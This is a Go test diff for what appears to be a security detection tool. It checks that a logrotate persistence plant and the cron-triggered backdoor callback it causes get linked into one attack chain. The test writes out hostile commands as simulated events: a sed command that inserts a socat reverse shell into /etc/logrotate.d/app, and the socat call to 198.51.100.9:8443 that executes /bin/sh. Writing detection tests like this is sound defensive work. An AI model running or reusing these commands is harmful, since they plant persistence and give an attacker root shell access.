@@ -462,3 +462,34 @@ func containsProc(ps []*parser.Process, pid int) bool {
 	}
 	return false
 }
+
+// TestCallbackLink: a logrotate line the chain planted names where a
+// socat shell connects; cron's logrotate fires it later, with no web
+// server above it. The callback joins the plant's chain, and what runs
+// on it (an ssh with the app's key) with it (press-ssti).
+func TestCallbackLink(t *testing.T) {
+	s, root, rev := reverseShellScene(t)
+	ed := child(230, root)
+	plantEv := s.exec(20, ed, "sed", "-i", `/postrotate/a\ socat OPENSSL-CONNECT:198.51.100.9:8443 EXEC:/bin/sh`, "/etc/logrotate.d/app")
+	plant := s.find(plantEv, detect.StagePersistence, detect.SeverityHigh, "Web Persistence Edit Command")
+	s.touch(60, child(249, cronD))
+	rot := who{pid: 250, ppid: 249, uid: 0, auid: parser.NewID(0), ses: parser.NewID(21)}
+	s.exec(60.1, rot, "/usr/sbin/logrotate", "/etc/logrotate.conf")
+	sock := who{pid: 252, ppid: 1, uid: 0, auid: parser.NewID(0), ses: parser.NewID(21)}
+	s.exec(60.3, sock, "socat", "OPENSSL-CONNECT:198.51.100.9:8443", "EXEC:/bin/sh")
+	conn := s.connect(60.4, sock, "198.51.100.9", 8443)
+	cb := s.find(conn, detect.StageCommandAndControl, detect.SeverityHigh, "Backdoor Callback")
+	cb.Related = append(cb.Related, plantEv)
+	// a root job of the host at the same minute, not planted by anyone
+	other := s.find(s.exec(60.2, who{pid: 260, ppid: 249, uid: 0, auid: parser.NewID(0), ses: parser.NewID(22)}, "sh", "-c", "/usr/local/sbin/housekeeping"),
+		detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
+	r := s.build()
+	c := chainOf(r, rev)
+	wantIn(t, r, c, "the callback of the chain's logrotate plant is not in the chain", plant, cb)
+	if chainOf(r, other) == c {
+		t.Error("an unrelated root cron job joined the chain")
+	}
+	if !hasLink(c, "callback:", "198.51.100.9:8443") {
+		t.Errorf("no callback link: %q", c.Links)
+	}
+}
